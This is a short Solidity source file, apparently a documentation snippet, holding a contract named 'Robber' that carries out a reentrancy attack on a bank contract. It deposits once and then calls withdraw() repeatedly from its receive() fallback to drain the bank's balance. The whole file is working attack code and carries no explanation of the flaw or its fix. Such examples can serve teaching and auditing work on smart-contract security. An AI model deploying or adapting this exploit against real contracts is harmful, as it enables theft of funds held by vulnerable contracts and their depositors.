// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

// #region contract
/// Deposits once and withdraws again and again, from inside the bank's own payment.
contract Robber {
    IBank private immutable bank;
    uint256 private stake;

    constructor(IBank target) {
        bank = target;
    }

    function attack() external payable {
        stake = msg.value;
        bank.deposit{value: stake}();
        bank.withdraw();
    }

    receive() external payable {
        if (address(bank).balance >= stake) bank.withdraw();
    }
}
// #endregion contract
